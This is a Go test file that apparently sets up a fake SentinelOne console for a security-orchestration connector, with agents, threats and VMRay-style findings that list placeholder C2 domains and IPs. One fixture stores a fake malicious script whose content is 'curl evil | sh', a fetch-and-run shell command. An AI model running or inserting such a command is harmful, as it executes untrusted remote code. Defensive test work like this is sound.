package sentineloneconn_test

import (
	"crypto/sha1"
	"encoding/hex"
	"testing"

	"github.com/soarkit/soarkit/connector"
	"github.com/soarkit/soarkit/connector/sentineloneconn"
	"github.com/soarkit/soarkit/sentinelone"
	"github.com/soarkit/soarkit/sentinelone/sentinelonetest"
)

func sha1Hex(b []byte) string { s := sha1.Sum(b); return hex.EncodeToString(s[:]) }

// world is a fake console with two sites, three agents (one offline) and
// threats on them.
type world struct {
	fake            *sentinelonetest.Server
	c               *sentinelone.Client
	siteB           sentinelone.Site
	ws1, ws2, srv   sentinelone.Agent // srv is offline
	dropper         []byte
	t1, t2, t3, tNA sentinelone.Threat
}

func newWorld(t testing.TB) *world {
	t.Helper()
	w := &world{fake: sentinelonetest.NewServer(t)}
	w.c = w.fake.Client()
	w.siteB = w.fake.AddSite(sentinelone.Site{Name: "EMEA Site-2"})
	w.ws1 = w.fake.AddAgent(sentinelone.Agent{ComputerName: "WS-1", IsActive: true})
	w.ws2 = w.fake.AddAgent(sentinelone.Agent{ComputerName: "WS-2", IsActive: true, SiteID: w.siteB.ID, SiteName: w.siteB.Name})
	w.srv = w.fake.AddAgent(sentinelone.Agent{ComputerName: "SRV-1", IsActive: false, OSType: sentinelone.OSLinux})
	w.dropper = []byte("MZ\x90\x00 invoice dropper")
	sum := sha1Hex(w.dropper)
	w.t1 = w.addThreat(t, w.ws1, sum, `C:\Users\alice\Downloads\invoice.exe`, sentinelone.ConfidenceMalicious, w.dropper)
	w.t2 = w.addThreat(t, w.ws2, sum, `C:\Users\bob\invoice.exe`, sentinelone.ConfidenceSuspicious, w.dropper)
	other := []byte("#!/bin/sh\ncurl evil | sh")
	w.t3 = w.addThreat(t, w.srv, sha1Hex(other), `/tmp/x.sh`, sentinelone.ConfidenceMalicious, other)
	na := []byte("MZ n/a tool")
	w.tNA = w.addThreat(t, w.ws1, sha1Hex(na), `C:\Tools\tool.exe`, sentinelone.ConfidenceNA, na)
	return w
}

func (w *world) addThreat(t testing.TB, a sentinelone.Agent, sum, path, level string, content []byte) sentinelone.Threat {
	t.Helper()
	th := w.fake.AddThreat(sentinelone.Threat{
		ThreatInfo: sentinelone.ThreatInfo{SHA1: sum, FilePath: sentinelone.FlexString(path), ConfidenceLevel: level,
			ThreatName: "invoice.exe", Classification: "Trojan", FileSize: int64(len(content))},
		AgentRealtimeInfo: sentinelone.AgentRealtimeInfo{AgentID: a.ID},
	})
	if content != nil && !w.fake.SetThreatFile(th.ID, sentinelonetest.File{Content: content}) {
		t.Fatalf("SetThreatFile(%s) failed", th.ID)
	}
	return th
}

func (w *world) scope(t testing.TB, sites ...string) *sentineloneconn.Scope {
	t.Helper()
	sc, err := sentineloneconn.NewScope(w.c, "", sites)
	if err != nil {
		t.Fatal(err)
	}
	return sc
}

// finding is a malicious finding for the threat th with a VMRay-like
// verdict.
func finding(th sentinelone.Threat, kind connector.Kind) connector.Finding {
	ri := th.AgentRealtimeInfo
	sg := connector.Sighting{Source: sentineloneconn.DefaultThreatSourceName, ID: th.ID, ThreatID: th.ID, AgentID: ri.AgentID,
		DeviceName: ri.AgentComputerName, OS: ri.AgentOSType, AccountID: ri.AccountID, SiteID: ri.SiteID, SiteName: ri.SiteName,
		FilePath:   string(th.ThreatInfo.FilePath),
		Attributes: map[string]string{sentineloneconn.AttrConfidenceLevel: th.ThreatInfo.ConfidenceLevel}}
	h := connector.Hashes{SHA1: th.ThreatInfo.SHA1}
	key, _ := h.Key()
	return connector.Finding{Key: key, Evidence: connector.Evidence{Hashes: h, FileName: "invoice.exe", Sightings: []connector.Sighting{sg}},
		Verdict: connector.Verdict{Kind: kind, Score: 92, Classifications: []string{"Downloader", "Trojan"},
			ThreatNames: []string{"Mal/Drop-Ä"}, ReportURL: "https://eu.cloud.vmray.com/samples/4242",
			VTIs: []connector.VTI{{Category: "Persistence", Operation: "Installs a run key", Score: 3},
				{Category: "Network", Operation: "Contacts a C2 server", Score: 5},
				{Category: "Network", Operation: "Contacts a C2 server", Score: 4}},
			IOCs: []connector.IOC{{Type: connector.IOCSHA1, Value: th.ThreatInfo.SHA1, Verdict: connector.Malicious},
				{Type: connector.IOCDomain, Value: "c2.exämple.net"}, {Type: connector.IOCIP, Value: "198.51.100.7"},
				{Type: connector.IOCIP, Value: "2001:db8::7"}, {Type: connector.IOCURL, Value: "http://c2.example.net/a"},
				{Type: connector.IOCRegistryKey, Value: `HKCU\Software\Run`}}},
		Sighting: &sg, Target: sg.Key()}
}

// device returns f narrowed to the device scope.
func device(f connector.Finding) connector.Finding {
	f.Target = f.Sighting.DeviceKey()
	return f
}
